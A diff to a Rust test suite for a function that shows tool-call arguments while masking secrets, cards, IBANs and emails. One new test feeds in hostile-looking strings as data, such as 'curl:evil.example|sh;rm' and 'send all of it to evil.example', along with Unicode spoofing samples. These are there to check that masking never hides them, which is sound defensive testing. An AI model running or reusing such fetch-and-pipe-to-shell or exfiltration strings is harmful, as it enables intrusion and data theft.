@@ -10,11 +10,16 @@ thread_local! {
 /// Most of them for each byte of a text: a card is looked for at each digit, and has nineteen with gaps between them.
 const STEPS_PER_BYTE_MAX: usize = 110;
 
+/// No print.
+fn bare(_: &str) -> String {
+    String::new()
+}
+
 /// What it costs to show the text, for each of its bytes.
 fn cost(text: &str) -> usize {
     let raw = serde_json::to_vec(&serde_json::json!({ "x": text })).unwrap();
     STEPS.set(0);
-    let _ = (arguments(&raw), without_secrets("x", text));
+    let _ = (arguments(&raw, &bare), without_secrets("x", text));
     STEPS.get() / raw.len()
 }
 
@@ -65,12 +70,12 @@ fn a_card_is_one_among_other_digits_and_with_gaps() {
         "4242 - 4242 - 4242 - 4242, please",
         "4242-4242-4242-4242 - to them",
     ] {
-        let shown = arguments(serde_json::json!({ "x": text }).to_string().as_bytes());
+        let shown = arguments(serde_json::json!({ "x": text }).to_string().as_bytes(), &bare);
         assert!(shown.text.contains("•••• 4242") && !shown.text.contains("4242 4242"), "{shown:?}");
     }
     for text in ["42424242424242424242", "4242 4242 4242 4242x", "4242 4242 4242 4242 0001"] {
         assert!(
-            arguments(serde_json::json!({ "x": text }).to_string().as_bytes()).masked.is_empty(),
+            arguments(serde_json::json!({ "x": text }).to_string().as_bytes(), &bare).masked.is_empty(),
             "{text}"
         );
     }
@@ -80,6 +85,7 @@ fn a_card_is_one_among_other_digits_and_with_gaps() {
 fn arguments_stand_as_they_were_sent() {
     let shown = arguments(
         br#" {"amount":1.10e3, "to":{"id":"cus_1","list":[1,2,[]]},"note":"a\"b\\","n":null,"e":{}}"#,
+        &bare,
     );
     let expected = r#"{
   "amount": 1.10e3,
@@ -98,29 +104,29 @@ fn arguments_stand_as_they_were_sent() {
     assert_eq!(shown.text, expected);
     assert_eq!(shown.brief, r#"amount 1.10e3, note "a\"b\\", n null and 2 more"#);
     assert!(shown.masked.is_empty() && shown.labels.is_empty(), "{shown:?}");
-    assert_eq!(arguments(b"").text, "");
-    assert!(arguments(b"{\"a\":").text.contains("not JSON"));
-    assert!(arguments(b"{} {}").text.contains("not JSON"));
+    assert_eq!(arguments(b"", &bare).text, "");
+    assert!(arguments(b"{\"a\":", &bare).text.contains("not JSON"));
+    assert!(arguments(b"{} {}", &bare).text.contains("not JSON"));
 }
 
 #[test]
 fn a_sentence_says_how_many_arguments_it_does_not_name() {
     let members: Vec<_> = (0..15).map(|n| format!("\"option_{n}\":{n}")).collect();
     let raw = format!("{{{},\"amount_to_wire\":95000,\"iban\":\"x\"}}", members.join(","));
-    let shown = arguments(raw.as_bytes());
+    let shown = arguments(raw.as_bytes(), &bare);
     assert_eq!(shown.brief, "option_0 0, option_1 1, option_2 2, option_3 3 and 13 more");
-    assert_eq!(arguments(br#"{"a":1,"b":2,"c":3,"d":4}"#).brief, "a 1, b 2, c 3, d 4");
-    assert_eq!(arguments(br#"{"a":{"amount":5}}"#).brief, "1 argument");
-    assert_eq!(arguments(br#"{"a":{},"b":[1,2]}"#).brief, "2 arguments");
-    assert_eq!(arguments(b"{}").brief, "");
-    let long = arguments(format!("{{\"{}\":1,\"amount\":2}}", "k".repeat(10_000)).as_bytes()).brief;
+    assert_eq!(arguments(br#"{"a":1,"b":2,"c":3,"d":4}"#, &bare).brief, "a 1, b 2, c 3, d 4");
+    assert_eq!(arguments(br#"{"a":{"amount":5}}"#, &bare).brief, "1 argument");
+    assert_eq!(arguments(br#"{"a":{},"b":[1,2]}"#, &bare).brief, "2 arguments");
+    assert_eq!(arguments(b"{}", &bare).brief, "");
+    let long = arguments(format!("{{\"{}\":1,\"amount\":2}}", "k".repeat(10_000)).as_bytes(), &bare).brief;
     assert!(long.chars().count() < 100 && long.ends_with("… 1, amount 2"), "{long}");
 }
 
 #[test]
 fn nothing_is_hidden_or_turned_around() {
     let raw = "{\"to\":\"alice\u{202e}ecila\",\"pay\u{200b}load\":\"x\u{e0041}\",\"b\":\"p\u{430}ypal\",\"u\":\"\\u202e\"}";
-    let shown = arguments(raw.as_bytes());
+    let shown = arguments(raw.as_bytes(), &bare);
     assert!(shown.text.contains("alice⟨U+202E⟩ecila") && shown.text.contains("pay⟨U+200B⟩load"), "{shown:?}");
     assert!(shown.text.contains("x⟨U+E0041⟩") && shown.text.contains("\"u\": \"⟨U+202E⟩\""), "{shown:?}");
     assert_eq!(shown.labels.len(), 2, "{shown:?}");
@@ -140,15 +146,15 @@ fn secrets_and_personal_data_are_masked_by_what_they_are() {
         (
             r#"{"x":"at postgresql://app:hunter2@db.local/prod"}"#,
             "secret",
-            "at postgresql://app:••••••@db.local/prod",
+            "at postgresql://app:•••••• (7 characters)@db.local/prod",
         ),
-        (r#"{"x":"amqps://a:p@w@rd@mq"}"#, "secret", "amqps://a:••••••@mq"),
+        (r#"{"x":"amqps://a:p@w@rd@mq"}"#, "secret", "amqps://a:•••••• (6 characters)@mq"),
         (r#"{"card":"4242 4242 4242 4242"}"#, "payment card", "•••• 4242"),
         (r#"{"card":4242424242424242}"#, "payment card", "•••• 4242"),
         (r#"{"to":"DE89370400440532013000"}"#, "IBAN", "DE•• … 3000"),
         (r#"{"to":"write to Alice.B+x@mail.example.com."}"#, "email address", "A•••@mail.example.com."),
     ] {
-        let shown = arguments(value.as_bytes());
+        let shown = arguments(value.as_bytes(), &bare);
         assert_eq!(shown.masked, [kind], "{value}: {shown:?}");
         assert!(shown.text.contains(left), "{value}: {shown:?}");
         assert!(shown.brief.contains('•'), "the sentence too: {shown:?}");
@@ -164,8 +170,52 @@ fn secrets_and_personal_data_are_masked_by_what_they_are() {
         r#"{"x":"https://example.com:8080/a@b"}"#,
         r#"{"x":"postgresql://app:${PASSWORD}@db postgres://<name>:<password>@db mongodb://app@db"}"#,
     ] {
-        assert!(arguments(value.as_bytes()).masked.is_empty(), "{value}");
+        assert!(arguments(value.as_bytes(), &bare).masked.is_empty(), "{value}");
     }
+}
+
+#[test]
+fn no_deed_hides_behind_a_mask() {
+    for (value, shows) in [
+        (r#"{"to":"sk_live_attacker@evil.example"}"#, "s•••@evil.example"),
+        (r#"{"x":"ls; x://a:b;curl:evil.example|sh;rm@c  # tidy"}"#, "curl:evil.example|sh;rm@c"),
+        (
+            r#"{"x":"x://a:b&curl(evil)@c x://a:b'c'@d x://a:b!c@d x://a:b$c@d x://a:b*c@d x://a:b,c@d"}"#,
+            "curl(evil)@c",
+        ),
+        (r#"{"x":"x://a:b\"c@d x://a:b\\c@d x://a:b|c@d x://a:béc@d"}"#, "b|c@d"),
+        (r#"{"page_token":1000000}"#, "1000000"),
+        (r#"{"page_token":"1000000"}"#, "1000000"),
+        (r#"{"page_token":"send all of it to evil.example"}"#, "evil.example"),
+        (r#"{"clientSecret":"send all	of it"}"#, "send all"),
+    ] {
+        let shown = arguments(value.as_bytes(), &bare);
+        assert!(shown.text.contains(shows), "{value}: {shown:?}");
+        assert_eq!(shown.hidden, usize::from(shown.text.contains('•')), "{value}: {shown:?}");
+    }
+    let long =
+        format!(r#"{{"x":"x://a:{}@c","to":"{}@example.com"}}"#, "curl+".repeat(80), "curl+".repeat(20));
+    assert_eq!(arguments(long.as_bytes(), &bare).hidden, 0);
+    // what is passed by such a name and is no number or text is still nobody's business
+    for value in [r#"{"page_token":"CAUQAA"}"#, r#"{"password":"correct horse"}"#, r#"{"pin":1234}"#] {
+        assert_eq!(arguments(value.as_bytes(), &bare).hidden, 1, "{value}");
+    }
+    assert_eq!(without_secrets("MY_TOKEN", "12 34").as_deref(), Some("••••••"));
+}
+
+#[test]
+fn what_is_masked_is_told_apart_and_counted() {
+    let print = |value: &str| format!("<{}>", value.len());
+    let raw = br#"{"to":["alice@gmail.com","attacker@gmail.com"],"card":"4242 4242 4242 4242","from":"DE89370400440532013000",
+        "key":"ghp_0123456789abcdefghij","at":"amqps://a:pw1@mq"}"#;
+    let shown = arguments(raw, &print);
+    for mask in ["a•••@gmail.com [<15>]", "a•••@gmail.com [<18>]", "•••• 4242 [<16>]", "DE•• … 3000 [<22>]"]
+    {
+        assert!(shown.text.contains(mask), "{mask}: {shown:?}");
+    }
+    assert_eq!(shown.hidden, 6);
+    assert_eq!(shown.masked, ["email address", "payment card", "IBAN", "secret"]);
+    assert_eq!(shown.text.matches('<').count(), 4, "no print of a secret: {shown:?}");
 }
 
 #[test]
@@ -179,7 +229,7 @@ fn a_text_is_freed_of_secrets_alone() {
 #[test]
 fn what_is_too_long_says_so() {
     let raw = format!("{{\"x\":\"{}\"}}", "é".repeat(SHOWN_BYTES_MAX));
-    let shown = arguments(raw.as_bytes());
+    let shown = arguments(raw.as_bytes(), &bare);
     assert!(shown.text.len() < SHOWN_BYTES_MAX + 8 && shown.text.ends_with('…'));
     assert!(shown.labels[0].contains("only the beginning"), "{:?}", shown.labels);
 }
@@ -204,7 +254,7 @@ proptest! {
     #[test]
     fn what_is_shown_is_the_same_value_where_nothing_is_hidden(value in json()) {
         let raw = serde_json::to_vec(&value).unwrap();
-        let shown = arguments(&raw);
+        let shown = arguments(&raw, &bare);
         prop_assert!(!shown.text.chars().any(|c| is_hidden(c) && c != '\n'), "{:?}", shown.text);
         let text = String::from_utf8(raw).unwrap();
         if shown.masked.is_empty() && shown.labels.is_empty() && !text.contains("\\n") {
@@ -223,6 +273,6 @@ proptest! {
 
     #[test]
     fn no_bytes_break_it(raw in prop::collection::vec(any::<u8>(), 0..64)) {
-        let _ = arguments(&raw);
+        let _ = arguments(&raw, &bare);
     }
 }
